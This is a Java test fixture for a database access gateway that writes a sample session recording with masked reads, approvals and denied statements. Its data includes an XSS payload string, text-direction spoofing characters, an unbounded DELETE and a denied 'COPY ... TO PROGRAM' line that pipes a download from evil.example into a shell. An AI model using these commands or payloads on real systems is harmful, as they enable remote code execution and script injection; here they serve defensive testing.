package io.productionguard.gateway.record;

import io.productionguard.gateway.approval.ApprovalDecision;
import io.productionguard.gateway.approval.ApprovalRequest;
import io.productionguard.gateway.identity.Caller;
import io.productionguard.gateway.operation.Risk;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** A recording such as a real job leaves it, with reads, masked values, an approval, denials and hostile text. */
final class SampleSession {

    static final String HOSTILE =
            "SELECT '</script><img src=x onerror=alert(1)>' AS \"a&b\" \u001b[31m, '\u202egnp.exe\u202c', 'zero\u200bwidth', 'שלום = 1' -- \0";

    private final Moving clock = new Moving();
    private final Recording recording;
    private long operation;
    private long request;

    private SampleSession(Path file, SealKey key) throws IOException {
        recording = Recording.create(file, key, clock);
    }

    /** Writes a sealed recording and returns its seal. */
    static Seal write(Path file, SealKey key) throws IOException {
        SampleSession session = new SampleSession(file, key);
        try (Recording open = session.recording) {
            session.happen();
            return open.seal(new Event.SessionEnded("command ended with exit code 0", session.operation, 4, 2, 41));
        }
    }

    private void happen() throws IOException {
        recording.append(new Event.SessionStarted(
                "s-4f0c9a1be27d",
                "1.0.0",
                new Caller(
                        "repo:acme/shop:ref:refs/heads/main",
                        "https://token.actions.githubusercontent.com",
                        Set.of("deployers"),
                        Map.of("ref", "refs/heads/main", "repository", "acme/shop", "run_id", "9182736455"),
                        Caller.Verification.OIDC),
                "acme/shop@9f7dd2a:production-guard.yml",
                "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8",
                false,
                "advisory",
                List.of("shop-db", "vault"),
                Map.of("job", "deploy", "build", "#1742", "commit", "9f7dd2a61c0b")));
        after(420);
        recording.append(new Event.ConnectionOpened(
                1, "shop-db", "127.0.0.1:52144 (psql)", "repo:acme/shop:ref:refs/heads/main"));
        allowed("SELECT version()", "sql.read", "", 1, 0, "PostgreSQL 18.6\n", 3_100);
        allowed("""
                SELECT id, email, card_number, api_key
                  FROM customers
                 WHERE country = 'DE'
                 ORDER BY created_at DESC
                 LIMIT 10""", "sql.read", "public.customers", 10, 30, """
                id,email,card_number,api_key
                4711,[masked:email:1],[masked:card:1],[masked:aws-key:1]
                4712,[masked:email:2],[masked:card:2],[masked:github-token:1]
                """, 12_400);
        allowed(
                "SELECT count(*) FROM orders WHERE status = 'open'",
                "sql.read",
                "public.orders",
                1,
                0,
                "count\n128\n",
                2_100);
        held(
                "UPDATE orders SET status = 'cancelled' WHERE id = $1",
                true,
                "jane",
                "Ticket SHOP-812, checked with Tom.");
        allowed(
                "SELECT status FROM orders WHERE id = 1042",
                "sql.read",
                "public.orders",
                1,
                0,
                "status\ncancelled\n",
                1_600);
        denied(
                "DELETE FROM orders",
                "sql.delete.unbounded",
                "public.orders",
                "no-wipe",
                "Ask the DBAs in #db-oncall.",
                "deletes every row of public.orders");
        denied(
                "COPY (SELECT '') TO PROGRAM 'curl -s https://evil.example/x | sh'",
                "sql.program",
                "",
                "built-in:program",
                "",
                "runs a program on the database server");
        failed("SELECT * FROM custmers", "ERROR 42P01: relation \"custmers\" does not exist");
        after(3_000);
        recording.append(new Event.ConnectionRefused("shop-db", "127.0.0.1:52190", "wrong password"));
        allowed(HOSTILE, "sql.read", "", 1, 0, "</pre></td></tr></table><script>alert(1)</script>\u202e\u0007", 900);
        held("ALTER TABLE orders ADD COLUMN note text", false, "", "");
        StringBuilder insert = new StringBuilder("INSERT INTO order_lines (order_id, sku, amount) VALUES\n");
        for (int i = 0; i < 60; i++) {
            insert.append("  (")
                    .append(1042 + i)
                    .append(", 'SKU-")
                    .append(7_000 + 13 * i)
                    .append("', 1),\n");
        }
        held(insert.toString(), true, "tom@acme.example", "ok");
        recording.append(new Event.Violation(
                1,
                "shop-db",
                "a mask token [masked:email:3] came back in a request; it would overwrite the real value"));
        denied(
                "UPDATE customers SET email = '[masked:email:3]' WHERE id = 4711",
                "sql.write.update",
                "public.customers",
                "mask token",
                "",
                "would write a masked value back");
        for (int i = 0; i < 14; i++) {
            allowed(
                    "SELECT * FROM order_lines WHERE order_id = " + (1042 + i),
                    "sql.read",
                    "public.order_lines",
                    3,
                    0,
                    "id,order_id,sku,amount\n",
                    1_000 + 37L * i);
        }
        recording.append(new Event.SessionNote("identity token renewed"));
        recording.append(new Event.ConnectionClosed(1, "shop-db", "client closed it"));
    }

    private void allowed(
            String text, String action, String resource, long rows, long masked, String response, long micros)
            throws IOException {
        decide(text, List.of(), action, resource, "low", List.of(), "allow", "reads", "");
        after(micros / 1_000 + 1);
        recording.append(new Event.OperationCompleted(
                operation,
                "SELECT " + rows,
                false,
                rows,
                response.length(),
                masked,
                "cd".repeat(32),
                response,
                false,
                micros));
        after(700);
    }

    private void failed(String text, String error) throws IOException {
        decide(text, List.of(), "sql.read", "custmers", "low", List.of(), "allow", "reads", "");
        recording.append(
                new Event.OperationCompleted(operation, error, true, 0, 82, 0, "cd".repeat(32), error, false, 800));
    }

    private void denied(String text, String action, String resource, String rule, String message, String reason)
            throws IOException {
        decide(text, List.of(), action, resource, "critical", List.of(reason), "deny", rule, message);
        after(1_300);
    }

    private void held(String text, boolean approved, String approver, String comment) throws IOException {
        List<String> reasons = List.of("changes rows of public.orders");
        List<String> parameters = text.contains("$1") ? List.of("1042") : List.of();
        decide(text, parameters, "sql.write.update", "public.orders", "high", reasons, "approve", "changes", "");
        String id = "a" + ++request;
        recording.append(new Event.ApprovalAsked(
                operation,
                new ApprovalRequest(
                        id,
                        Events.digest(text),
                        "shop-db",
                        "repo:acme/shop:ref:refs/heads/main",
                        text,
                        parameters,
                        List.of("sql.write.update"),
                        List.of("public.orders"),
                        Risk.HIGH,
                        reasons,
                        "changes",
                        "",
                        1,
                        clock.instant(),
                        clock.instant().plusSeconds(1800))));
        if (!approved) {
            after(Duration.ofMinutes(2).toMillis());
            recording.append(new Event.ApprovalSettled(operation, id, false, List.of(), "nobody approved it in time"));
            return;
        }
        after(41_600);
        recording.append(new Event.ApprovalAnswered(
                new ApprovalDecision(
                        id,
                        Events.digest(text),
                        ApprovalDecision.Verdict.APPROVE,
                        approver,
                        comment,
                        "https://ci.acme.example/17"),
                true,
                ""));
        recording.append(Events.settled(operation, id, true, approver));
        after(6);
        recording.append(
                new Event.OperationCompleted(operation, "UPDATE 1", false, 1, 0, 0, "ef".repeat(32), "", false, 5_900));
        after(900);
    }

    private void decide(
            String text,
            List<String> parameters,
            String action,
            String resource,
            String risk,
            List<String> reasons,
            String effect,
            String rule,
            String message)
            throws IOException {
        recording.append(new Event.OperationDecided(
                ++operation,
                1,
                "shop-db",
                "repo:acme/shop:ref:refs/heads/main",
                text,
                false,
                parameters,
                List.of(action),
                resource.isEmpty() ? List.of() : List.of(resource),
                risk,
                reasons,
                effect,
                rule,
                message,
                Events.digest(text).hex()));
    }

    private void after(long millis) {
        clock.now = clock.now.plusMillis(millis).plusNanos(123_000);
    }

    /** A clock that is moved by hand. */
    private static final class Moving extends Clock {

        private Instant now = Instant.parse("2026-11-03T10:11:12.000123Z");

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }

        @Override
        public Instant instant() {
            return now;
        }
    }

    /** Writes the sample and its papers into a directory, to look at. */
    public static void main(String[] args) throws IOException {
        Path directory = java.nio.file.Files.createDirectories(Path.of(args[0]));
        Path file = directory.resolve("recording.jsonl");
        java.nio.file.Files.deleteIfExists(file);
        Path publicKey = directory.resolve("recording-key.json");
        java.nio.file.Files.deleteIfExists(publicKey);
        SealKey key = SealKey.generate();
        key.writePublicKey(publicKey);
        Seal seal = write(file, key);
        SessionPapers.write(file, directory, seal.verification());
        SessionTranscript.write(file, seal.verification(), System.out);
    }
}
